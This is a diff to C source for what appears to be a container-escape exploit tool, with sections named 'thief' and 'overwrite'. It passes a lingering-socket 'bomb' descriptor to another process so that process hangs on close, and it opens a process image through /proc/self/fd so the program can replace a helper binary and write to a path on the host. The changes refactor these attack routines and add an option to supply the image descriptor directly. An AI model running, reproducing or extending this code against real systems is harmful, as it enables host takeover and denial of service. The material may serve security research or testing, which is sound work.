@@ -308,20 +308,26 @@ int stopper(int argc, char **argv)
 
 /* ---- thief: take its descriptors ---- */
 
-/* A connection whose close waits for data that the other side never takes. */
-static int lingering_socket(void)
+int deaf_listener(void)
+{
+    const int small = 1;
+    const struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
+    if (bind(listener, (const struct sockaddr *)&address, sizeof address) < 0 || listen(listener, 64) < 0)
+        give_up("listen");
+    return listener;
+}
+
+int lingering_socket(int listener)
 {
     const struct linger linger = {.l_onoff = 1, .l_linger = 3600};
-    const int small = 1;
-    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+    struct sockaddr_in address;
     socklen_t length = sizeof address;
     static char data[1 << 16];
-    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
     int client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
-    setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
-    if (bind(listener, (struct sockaddr *)&address, length) < 0 || listen(listener, 1) < 0 ||
-        getsockname(listener, (struct sockaddr *)&address, &length) < 0)
-        give_up("listen");
+    if (getsockname(listener, (struct sockaddr *)&address, &length) < 0)
+        give_up("getsockname");
     if (connect(client, (struct sockaddr *)&address, length) < 0 && errno != EINPROGRESS)
         give_up("connect");
     usleep(10000);
@@ -337,7 +343,7 @@ struct packet {
     char detail[120];
 };
 
-static ssize_t send_fd(int to, int fd)
+ssize_t send_fd(int to, int fd)
 {
     struct packet data = {.kind = 99};
     struct iovec piece = {.iov_base = &data, .iov_len = sizeof data};
@@ -359,7 +365,7 @@ static void use(int fd, const char *how)
     struct stat about;
     fstat(fd, &about);
     if (S_ISSOCK(about.st_mode) && strcmp(how, "linger") == 0) {
-        int bomb = lingering_socket();
+        int bomb = lingering_socket(deaf_listener());
         say("socket: %s", send_fd(fd, bomb) > 0 ? "sent a descriptor" : strerror(errno));
         close(bomb);
     } else if (S_ISSOCK(about.st_mode))
@@ -433,8 +439,8 @@ static int next_image(void)
     }
 }
 
-/* overwrite PATH: puts this program in place of the image, to run as the next helper and write to PATH of the
- * host. */
+/* overwrite PATH [IMAGE]: puts this program in place of the image, to run as the next helper and write to
+ * PATH of the host. IMAGE: a descriptor of it, instead of that of the next process that enters. */
 int overwrite(int argc, char **argv)
 {
     static char tail[4096];
@@ -443,7 +449,7 @@ int overwrite(int argc, char **argv)
         return 2;
     strncpy(tail, argv[0], sizeof tail - 1);
     say("ready");
-    int image = next_image();
+    int image = argc > 1 ? (int)strtol(argv[1], NULL, 10) : next_image();
     say("opened the image");
     snprintf(path, sizeof path, "/proc/self/fd/%d", image);
     int target = -1;
